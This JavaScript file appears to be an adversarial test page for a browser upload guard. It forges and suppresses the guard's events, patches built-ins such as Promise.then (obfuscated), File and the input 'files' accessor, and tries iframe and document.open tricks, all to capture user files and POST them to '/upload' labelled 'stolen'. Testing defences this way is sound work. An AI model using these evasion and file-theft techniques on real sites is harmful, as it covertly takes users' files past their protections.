/** Whatever it gets hold of is sent. */
const seen = new Set();
const post = window.fetch.bind(window);
const send = (files) => {
  for (const file of files ?? []) {
    if (!/File|Blob/.test(Object.prototype.toString.call(file)) || seen.has(file)) continue;
    seen.add(file);
    const form = new FormData();
    form.append('f', file, 'stolen');
    void post('/upload', { method: 'POST', body: form });
  }
};
window.send = send;

// The guard's own signs, forged.
const forge = () => {
  for (const type of ['guise:hello', 'guise:wire', 'guise:again', 'guise:take', 'guise:probe'])
    window.dispatchEvent(new Event(type, { bubbles: true, cancelable: true }));
};
const arm = () => {
  window.addEventListener('guise:probe', (e) => e.stopImmediatePropagation(), true);
  window.addEventListener('guise:take', (e) => e.stopImmediatePropagation(), true);
  window.addEventListener('guise:wire', (e) => e.target.dispatchEvent(new Event('guise:again')), true);
  for (const type of ['input', 'change', 'drop'])
    window.addEventListener(type, (e) => send(e.target.files ?? e.dataTransfer?.files), true);
  forge();
};

// Built-ins, replaced.
Event.prototype.stopImmediatePropagation = Event.prototype.stopPropagation = () => {};
Object.defineProperty(HTMLInputElement.prototype, 'value', { set() {}, get: () => '' });
const files = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'files');
Object.defineProperty(HTMLInputElement.prototype, 'files', {
  get() {
    const list = files.get.call(this);
    send(list);
    return list;
  },
  set(list) {
    send(list);
    files.set.call(this, list);
  },
});
const { add } = DataTransferItemList.prototype;
DataTransferItemList.prototype.add = function (...args) {
  send(args);
  return add.apply(this, args);
};
const passed = Promise.prototype.then;
Reflect.defineProperty(Promise.prototype, ['th', 'en'].join(''), {
  configurable: true,
  writable: true,
  value(done, failed) {
    const spy = (value) => {
      send([value].flat());
      return done ? done(value) : value;
    };
    return passed.call(this, spy, failed);
  },
});
window.File = class extends File {
  constructor(bits, ...rest) {
    super(bits, ...rest);
    send(bits);
  }
};
arm();

const input = () => {
  const made = Object.assign(document.createElement('input'), { type: 'file' });
  for (const type of ['input', 'change']) made.addEventListener(type, () => send(made.files), true);
  setInterval(() => send(made.files), 1);
  return made;
};
document.body.append(Object.assign(input(), { id: 'plain' }));

/** Listeners before the guard's, after a document was opened anew. */
window.reopen = () => {
  document.open();
  arm();
  document.write('<body></body>');
  document.close();
  document.body.append(Object.assign(input(), { id: 'again' }));
};
/** The same by a script within what is written, which opens the finished document by itself. */
window.rewrite = () => {
  window.arm = arm;
  document.write('<script>arm()</'.concat('script><body></body>'));
  document.close();
  document.body.append(Object.assign(input(), { id: 'anew' }));
};
/** A method of a window that was just made, for an input that is nowhere. */
window.borrow = () => {
  const frame = document.body.appendChild(document.createElement('iframe'));
  frame.contentWindow.HTMLElement.prototype.click.call(input());
};
/** An input of such a window. */
window.lodge = () => {
  const { contentDocument: inner, contentWindow } = document.body.appendChild(
    document.createElement('iframe'),
  );
  for (const type of ['input', 'change'])
    contentWindow.addEventListener(type, (e) => send(e.target.files), true);
  const made = inner.body.appendChild(inner.createElement('input'));
  made.type = 'file';
};
/** Another window's method, for a document that is not its own. */
window.reopenBorrowed = () => {
  const frame = document.body.appendChild(document.createElement('iframe'));
  try {
    frame.contentWindow.Document.prototype.open.call(document);
    return 'opened';
  } catch (e) {
    return e.name;
  }
};
